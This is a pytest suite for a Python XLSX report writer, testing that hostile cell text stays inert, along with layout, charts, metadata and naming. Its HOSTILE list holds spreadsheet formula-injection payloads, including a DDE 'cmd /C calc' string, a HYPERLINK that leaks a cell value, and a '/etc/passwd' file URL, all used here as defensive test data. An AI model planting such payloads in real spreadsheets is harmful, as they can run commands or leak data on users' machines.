"""The workbook writer: what is in it is what was given, and nothing in it acts."""

from __future__ import annotations

import datetime
import gc
import tempfile
import zipfile
from dataclasses import replace
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook
from tests.reports.inspector import living_parts
from tests.reports.made_documents import NAMES

from ilrs_desk.domain.problems import InputProblem, MachineFault
from ilrs_desk.reports.document import (
    Chart,
    ChartKind,
    ChartRow,
    Column,
    ColumnType,
    Document,
    Heading,
    Page,
    Paragraph,
    Records,
    Table,
    TableBlock,
)
from ilrs_desk.reports.xlsx import sheet_title, table_name, write_xlsx
from ilrs_desk.reports.xlsx_records import wrapped_lines

HOSTILE = [
    '=HYPERLINK("http://example.org/?"&A1,"Click")',
    "=1+1",
    "=",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "\t=1+1",
    " =1+1",
    "=cmd|' /C calc'!A0",
    "#N/A",
    "#REF!",
    "{=SUM(A1)}",
    "'=1+1",
    '"=1+1"',
    "<script>alert(1)</script>",
    "]]><f>1+1</f>",
    "&A&P&N",
    "http://example.org",
    "file:///etc/passwd",
    "\\\\host\\share",
    "TRUE",
    "1E5",
    "007",
    "2024-01-01",
    "a\nb",
    "_x0041_",
    "\u202eevil",
    "\x07bell",
]

DAY = date(2024, 7, 31)


def one_column(values: list[str | None], label: str = "Text") -> Document:
    table = Table("Records", (Column(label), Column("No.", ColumnType.NUMBER)), tuple((v, 1) for v in values))
    return Document("Test", (Records("Records", table),))


def part_of(path: Path, name: str) -> bytes:
    with zipfile.ZipFile(path) as package:
        return package.read(name)


def read_back(path: Path) -> list[str]:
    rows = CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python()
    return [str(row[0]) for row in rows[1:]]


def test_hostile_text_stays_text_and_reads_back_the_same(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_xlsx(one_column(list(HOSTILE)), path)
    assert living_parts(path) == []
    assert read_back(path) == [text.replace("\x07", "\u2407") for text in HOSTILE]
    sheet = openpyxl.load_workbook(path).worksheets[0]
    assert {cell.data_type for (cell, _) in sheet.iter_rows(min_row=2)} == {"s"}
    quoted = {str(cell.value) for (cell, _) in sheet.iter_rows(min_row=2) if cell.quotePrefix}
    assert {"=1+1", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1"} <= quoted


def test_hostile_names_of_everything_else_are_harmless_too(tmp_path: Path) -> None:
    for number, hostile in enumerate(HOSTILE):
        table = Table(hostile, (Column(hostile), Column(hostile, ColumnType.SHARE)), ((hostile, 0.2),))
        page = Page(
            hostile,
            (20, 20, 20),
            (
                Heading(hostile),
                Paragraph(hostile, hostile),
                TableBlock(table, (Chart(hostile, ChartKind.BAR, table, (1,)),)),
            ),
        )
        sections = (page, Records(hostile, table), Records(hostile, table))
        path = tmp_path / f"{number}.xlsx"
        write_xlsx(Document(hostile, sections, hostile, date(2024, 7, 31), hostile), path)
        assert living_parts(path) == []
        assert len(openpyxl.load_workbook(path).sheetnames) == 4


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(
        st.text(st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff"), min_size=1)
    )
)
def test_any_text_reads_back_the_same(tmp_path: Path, texts: list[str]) -> None:
    path = tmp_path / "any.xlsx"
    write_xlsx(one_column(list(texts)), path)
    assert living_parts(path) == []
    rows = CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python()[1:]
    assert [row[0] for row in rows] == texts


def test_a_table_is_a_real_one_that_prints_whole(tmp_path: Path) -> None:
    columns = (Column("Name"), Column("Signed on", ColumnType.DATE), Column("Number", ColumnType.NUMBER))
    rows = (("张伟 Müller", date(2024, 7, 31), 5000), ("Pakistan", "2023-10", None))
    path = tmp_path / "table.xlsx"
    document = Document(
        "T", (Records("Partners", Table("x", columns, rows)),), "A & B", date(2024, 7, 31), "partners"
    )
    write_xlsx(document, path)
    sheet = openpyxl.load_workbook(path)["Partners"]
    assert (sheet.tables["Partners"].ref, sheet.freeze_panes) == ("A1:C3", "A2")
    assert [column.name for column in sheet.tables["Partners"].tableColumns] == [
        "Name",
        "Signed on",
        "Number",
    ]
    assert sheet["B2"].value == datetime.datetime(2024, 7, 31)
    assert (sheet["B2"].number_format, sheet["B3"].value) == ("yyyy-mm-dd", "2023-10")
    assert (sheet["C2"].value, sheet["C2"].data_type) == (5000, "n")
    setup = sheet.page_setup
    assert (int(setup.paperSize), setup.orientation, setup.fitToWidth, setup.fitToHeight) == (
        9,
        "portrait",
        1,
        0,
    )
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == "$1:$1"
    assert (sheet.oddHeader.left.text, sheet.oddHeader.right.text) == ("A && B", "as of 31 Jul 2024")
    assert sheet.oddFooter.right.text == "Page &P of &N"
    assert "without personal contact data" in sheet.oddFooter.left.text


def test_wide_text_makes_the_column_wide_and_long_text_the_row_tall(tmp_path: Path) -> None:
    columns = tuple(Column(label) for label in "ABCDEF")
    long = "Institute of Applied Physics and Chemistry " * 3
    rows = (("国" * 12, "x", long, long, long, long), ("y", "x", "short", "short", "short", "a\nb"))
    path = tmp_path / "wide.xlsx"
    write_xlsx(Document("T", (Records("R", Table("R", columns, rows)),)), path)
    sheet = openpyxl.load_workbook(path)["R"]
    assert sheet.column_dimensions["A"].width == 26
    assert sheet.column_dimensions["B"].width == 8
    assert sheet.column_dimensions["C"].width == 34
    assert sheet.row_dimensions[2].height >= 4 * 15
    assert sheet.row_dimensions[3].height == 30
    assert sheet["C2"].alignment.wrap_text


@pytest.mark.parametrize(
    ("text", "room", "lines"),
    [
        ("", 9, 0),
        ("word", 9, 1),
        ("two words", 5, 2),
        ("国" * 10, 10, 2),
        ("x" * 30, 10, 3),
        ("a\n\nb", 9, 3),
        ("AB " * 4, 6, 2),
    ],
)
def test_lines_of_wrapped_text(text: str, room: int, lines: int) -> None:
    assert wrapped_lines(text, room) == lines


def test_a_table_without_rows_is_still_a_table(tmp_path: Path) -> None:
    path = tmp_path / "empty.xlsx"
    write_xlsx(one_column([]), path)
    assert openpyxl.load_workbook(path).worksheets[0].tables["Records"].ref == "A1:B2"


def test_equal_or_empty_headers_are_told_apart(tmp_path: Path) -> None:
    path = tmp_path / "same.xlsx"
    columns = (Column("Why"), Column("why"), Column(" "), Column("Two\nlines"))
    write_xlsx(Document("T", (Records("R", Table("R", columns, ((None,) * 4,))),)), path)
    sheet = openpyxl.load_workbook(path)["R"]
    assert [cell.value for cell in sheet[1]] == ["Why", "why 2", "Column", "Two lines"]


def test_a_chart_is_native_and_drawn_from_the_cells(tmp_path: Path) -> None:
    months = tuple((date(2023, month, 1), month) for month in range(1, 13))
    table = Table("Trend", (Column("Month", ColumnType.DATE), Column("Countries", ColumnType.NUMBER)), months)
    line = Chart("Countries over time", ChartKind.LINE, table, (1,), first=2)
    page = Page("Trend", (12,) * 6, (ChartRow(((1, line),)), TableBlock(table)), printed=1)
    path = tmp_path / "chart.xlsx"
    write_xlsx(Document("T", (page,)), path)
    sheet = openpyxl.load_workbook(path)["Trend"]
    (chart,) = sheet._charts
    series = chart.series[0]
    first = int(series.val.numRef.f.split("$")[-3].rstrip(":"))
    assert [sheet.cell(first + row, 2).value for row in (0, 9)] == [3, 12]
    assert series.val.numRef.f == f"'Trend'!$B${first}:$B${first + 9}"
    assert chart.x_axis.delete is False
    assert chart.title.overlay is False
    assert sheet.print_area.split("$")[-1] < str(first)


def test_the_file_tells_of_no_person_machine_or_hour(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    document = replace(one_column(["x"]), office="A & B <office>", language="fr")
    write_xlsx(document, path)
    assert (
        part_of(path, "docProps/core.xml")
        == b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<cp:coreProperties '
        b'xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        b'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Test</dc:title>'
        b"<dc:creator>A &amp; B &lt;office&gt;</dc:creator><dc:language>fr</dc:language></cp:coreProperties>"
    )
    with zipfile.ZipFile(path) as package:
        assert {one.date_time[0] for one in package.infolist()} == {1980}
    written = path.read_bytes()
    write_xlsx(document, path)
    assert path.read_bytes() == written


def test_text_longer_than_a_cell_holds_is_refused_and_nothing_is_written(tmp_path: Path) -> None:
    path = tmp_path / "long.xlsx"
    write_xlsx(one_column(["x" * 32_767]), path)
    assert read_back(path) == ["x" * 32_767]
    before = path.read_bytes()
    with pytest.raises(InputProblem) as refused:
        write_xlsx(one_column(["🌑" * 16_384]), path)
    assert refused.value.code == "report.text_too_long"
    assert path.read_bytes() == before
    assert [one.name for one in tmp_path.iterdir()] == ["long.xlsx"]


def test_an_export_that_stops_halfway_leaves_nothing_behind(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    """The sheets are written to temporary files first, and these hold the records."""
    scratch, out = tmp_path / "scratch", tmp_path / "out"
    scratch.mkdir()
    out.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    aware = datetime.datetime(2024, 1, 1, tzinfo=datetime.UTC)
    stopping = Records("Stops", Table("Stops", (Column("Day", ColumnType.DATE),), ((DAY,), (aware,))))
    secret = one_column(["secret"]).sections[0]
    with pytest.raises(TypeError, match="timezones"):
        write_xlsx(Document("T", (secret, stopping, secret)), out / "x.xlsx")
    gc.collect()
    assert list(scratch.iterdir()) == list(out.iterdir()) == []
    assert capfd.readouterr() == ("", "")


def test_a_table_without_columns_is_an_empty_sheet(tmp_path: Path) -> None:
    path = tmp_path / "none.xlsx"
    write_xlsx(Document("T", (Records("R", Table("R", (), ((), ()))),)), path)
    assert openpyxl.load_workbook(path)["R"].max_row == 1


def test_a_folder_that_is_not_there_and_a_place_that_is_taken_are_told(tmp_path: Path) -> None:
    with pytest.raises(InputProblem, match="Choose a folder that exists"):
        write_xlsx(one_column(["x"]), tmp_path / "none" / "x.xlsx")
    (tmp_path / "x.xlsx").mkdir()
    with pytest.raises(MachineFault, match="could not be written"):
        write_xlsx(one_column(["x"]), tmp_path / "x.xlsx")
    assert [one.name for one in tmp_path.iterdir()] == ["x.xlsx"]


@pytest.mark.parametrize(
    ("wanted", "taken", "title"),
    [
        ("A/B: [c]*?", [], "A B c"),
        ("'quoted'", [], "quoted"),
        ("", [], "Sheet"),
        ("partners", ["Partners"], "partners 2"),
        ("x" * 40, ["x" * 31], "x" * 29 + " 2"),
        ("国" * 40, ["国" * 31, "国" * 29 + " 2"], "国" * 29 + " 3"),
        ("🌑" * 20, [], "🌑" * 15),
        ("History", [], "History 2"),
    ],
)
def test_sheet_titles(wanted: str, taken: list[str], title: str) -> None:
    assert sheet_title(wanted, taken) == title


def test_names_of_every_script_stand_in_their_cells(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_xlsx(one_column(list(NAMES)), path)
    assert read_back(path) == list(NAMES)


@pytest.mark.parametrize(
    ("wanted", "taken", "name"),
    [
        ("Partners", set(), "Partners"),
        ("partners", {"partners"}, "partners_2"),
        ("A1", set(), "Table_A1"),
        ("R1C1", set(), "Table_R1C1"),
        ("Not counted, and why", set(), "Table_Not_counted_and_why"),
        ("", set(), "Table"),
        ("", {"table"}, "Table_2"),
        ("الدول المشاركة", set(), "Table_الدول_المشاركة"),
        ("x" * 400, set(), "x" * 250),
    ],
)
def test_names_of_tables(wanted: str, taken: set[str], name: str) -> None:
    assert table_name(wanted, taken) == name
